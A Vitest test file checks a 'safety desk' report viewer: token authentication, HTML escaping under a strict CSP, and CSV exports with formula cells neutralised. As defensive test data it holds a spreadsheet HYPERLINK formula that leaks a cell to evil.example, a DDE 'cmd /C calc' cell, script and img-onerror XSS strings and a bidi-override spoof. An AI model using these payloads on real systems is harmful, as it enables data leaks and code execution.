// @vitest-environment node
import { beforeAll, expect, it } from 'vitest';
import { describeEachStore, TEST_TOKEN, type TestReceiver } from './testing/each-store';
import { deskGet } from './testing/desk-client';
import { postBatch, uploadAll } from './testing/http-client';
import { buildReport } from './testing/make-report';

/** First the formula, so the CSV cell of names starts with `=`. */
const HOSTILE = {
  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  markup: '<img src=x onerror=alert(1)>',
  bidi: 'Host\u202E (tsoH)',
};
const NOTE = '@SUM(1+1)*cmd|" /C calc"!A0';

describeEachStore('safety desk', (target) => {
  let receiver: TestReceiver;
  let reportId = '';
  let meetingId = '';
  beforeAll(async () => {
    receiver = await target.startReceiver();
    const built = await buildReport({
      category: 'harassment',
      names: Object.values(HOSTILE),
      title: `</title><script>alert(2)</script>`,
    });
    meetingId = built.report.meeting.id;
    built.report.note = NOTE;
    await uploadAll(receiver.url, TEST_TOKEN, [built]);
    const { body } = await postBatch(receiver.url, TEST_TOKEN, [built.report]);
    reportId = (body.results[0] as { id: string }).id;
  });

  it('asks for the token (Basic or bearer) and refuses a wrong one', async () => {
    const none = await fetch(`${receiver.url}/desk`);
    expect(none.status).toBe(401);
    expect(none.headers.get('www-authenticate')).toMatch(/^Basic realm="Hostguard safety desk"/);
    expect((await deskGet(receiver.url, '/desk', 'wrong')).status).toBe(401);
    expect((await fetch(`${receiver.url}/desk`, { headers: { authorization: `Bearer ${TEST_TOKEN}` } })).status).toBe(
      200,
    );
  });

  it.each(['/desk', '/desk/reports/:id'])(
    'escapes hostile names and titles on %s, under a strict CSP',
    async (path) => {
      const response = await deskGet(receiver.url, path.replace(':id', reportId), TEST_TOKEN);
      expect(response.status).toBe(200);
      expect(response.headers.get('content-security-policy')).toMatch(
        /^default-src 'none'; img-src 'self'; style-src 'self'/,
      );
      const page = await response.text();
      expect(page).not.toContain(HOSTILE.markup);
      expect(page).toContain('&lt;img src=x onerror=alert(1)&gt;');
      expect(page).not.toContain('<script>');
      expect(page).toContain('&lt;/title&gt;&lt;script&gt;alert(2)&lt;/script&gt;');
      // The override is shown as a marker inside an isolated <bdi>, never as the raw character.
      expect(page).not.toContain('\u202E');
      expect(page).toMatch(/<bdi class="untrusted">Host<span class="hidden-char">⟨U\+202E⟩<\/span> \(tsoH\)<\/bdi>/);
      expect(page).toContain('reorders text');
      expect(page).toContain('=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Click&quot;)');
      expect(page).toMatch(/<html lang="en">/);
    },
  );

  it('exports CSV with formula cells neutralised and JSON with raw values', async () => {
    const bytes = new Uint8Array(
      await (await deskGet(receiver.url, `/desk/export.csv?meeting=${meetingId}`, TEST_TOKEN)).arrayBuffer(),
    );
    // A UTF-8 byte order mark first, so spreadsheets do not read the names as Latin-1.
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, row, end] = new TextDecoder().decode(bytes).split('\r\n');
    expect(header).toMatch(/^id,received_at,category,/);
    expect(end).toBe('');
    const names = Object.values(HOSTILE).join(' | ').replace(/"/g, '""');
    expect(row).toContain(`,"'${names}",`);
    expect(row).toContain(`,"'${NOTE.replace(/"/g, '""')}",`);
    const exported = await (await deskGet(receiver.url, `/desk/export.json?meeting=${meetingId}`, TEST_TOKEN)).json();
    expect(exported.reports[0].report.note).toBe(NOTE);
    expect(exported.reports[0].report.participants.map((p: { name: string }) => p.name)).toEqual(
      Object.values(HOSTILE),
    );
  });

  it('filters by category and meeting with a GET form', async () => {
    const page = await (
      await deskGet(receiver.url, `/desk?category=harassment&meeting=${meetingId}`, TEST_TOKEN)
    ).text();
    expect(page).toContain(`/desk/reports/${reportId}`);
    expect(page).toMatch(/<option value="harassment"\s+selected>/);
    const none = await (await deskGet(receiver.url, `/desk?category=spam&meeting=${meetingId}`, TEST_TOKEN)).text();
    expect(none).toContain('No reports match.');
    expect(none).not.toContain(`/desk/reports/${reportId}`);
  });

  it('blurs images by default behind a reveal that needs no script', async () => {
    const page = await (await deskGet(receiver.url, `/desk/reports/${reportId}`, TEST_TOKEN)).text();
    expect(page).not.toMatch(/<script/i);
    expect(page.match(/<details class="show">\s*<summary>Show image #\d+ \(blurred\)<\/summary>/g)).toHaveLength(2);
    const css = await fetch(`${receiver.url}/desk/desk.css`);
    expect(css.headers.get('content-type')).toMatch(/^text\/css/);
    expect(await css.text()).toMatch(/img \{[^}]*filter: blur/);
  });

  it('answers 404 for an unknown report or evidence hash', async () => {
    expect((await deskGet(receiver.url, '/desk/reports/00000000-0000-4000-8000-000000000000', TEST_TOKEN)).status).toBe(
      404,
    );
    expect((await deskGet(receiver.url, `/desk/evidence/${'0'.repeat(64)}`, TEST_TOKEN)).status).toBe(404);
  });
});
